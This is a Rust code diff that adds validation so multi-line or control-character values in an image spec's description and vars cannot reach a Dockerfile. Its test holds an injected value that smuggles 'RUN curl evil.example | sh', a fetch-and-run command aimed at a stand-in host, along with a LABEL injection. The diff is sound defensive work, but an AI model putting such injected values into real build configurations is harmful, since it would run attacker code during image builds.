@@ -369,9 +369,35 @@ pub fn is_valid_image_name(name: &str) -> bool {
         && !name.ends_with('-')
 }
 
+/// The first string under `table` (nested tables and arrays included) with a control
+/// character, as a dotted key.
+fn multi_line_var(table: &toml::Table, prefix: &str) -> Option<String> {
+    fn find(value: &toml::Value, key: String) -> Option<String> {
+        match value {
+            toml::Value::String(s) if s.chars().any(char::is_control) => Some(key),
+            toml::Value::Array(items) => items
+                .iter()
+                .enumerate()
+                .find_map(|(i, v)| find(v, format!("{key}[{i}]"))),
+            toml::Value::Table(t) => t.iter().find_map(|(k, v)| find(v, format!("{key}.{k}"))),
+            _ => None,
+        }
+    }
+    table
+        .iter()
+        .find_map(|(k, v)| find(v, format!("{prefix}.{k}")))
+}
+
 fn validate_spec(root: &Path, name: &str, label: &str, spec: &ImageSpec) -> Result<()> {
     if spec.description.trim().is_empty() {
         bail!("{label}: description is empty; say in one line what the image is for");
+    }
+    // Both reach Dockerfiles and the bake file, which are line-based.
+    if spec.description.chars().any(char::is_control) {
+        bail!("{label}: description holds a line break or control character; keep it to one line");
+    }
+    if let Some(key) = multi_line_var(&spec.vars, "vars") {
+        bail!("{label}: {key} holds a line break or control character; a value that reaches a Dockerfile must be one line");
     }
     match (&spec.template, &spec.dockerfile) {
         (Some(_), Some(_)) => {
@@ -590,6 +616,23 @@ pub(crate) mod tests {
         let err = load_err(&[("a", &bad)]);
         assert!(err.starts_with("agents/a/image.toml:3:"), "{err}");
         assert!(err.contains("unknown field `colour`"), "{err}");
+    }
+
+    #[test]
+    fn values_that_reach_a_dockerfile_are_one_line() {
+        let injected = format!(
+            "{}\n[vars]\nversion = \"1.0\\nRUN curl evil.example | sh\"\n",
+            spec(None)
+        );
+        let err = load_err(&[("a", &injected)]);
+        assert!(err.contains("vars.version holds a line break"), "{err}");
+        let nested = format!("{}\n[vars.x]\nlist = [\"ok\", \"a\\rb\"]\n", spec(None));
+        let err = load_err(&[("a", &nested)]);
+        assert!(err.contains("vars.x.list[1]"), "{err}");
+        let description =
+            spec(None).replace("description = \"test\"", "description = \"a\\nLABEL x=1\"");
+        let err = load_err(&[("a", &description)]);
+        assert!(err.contains("description holds a line break"), "{err}");
     }
 
     #[test]
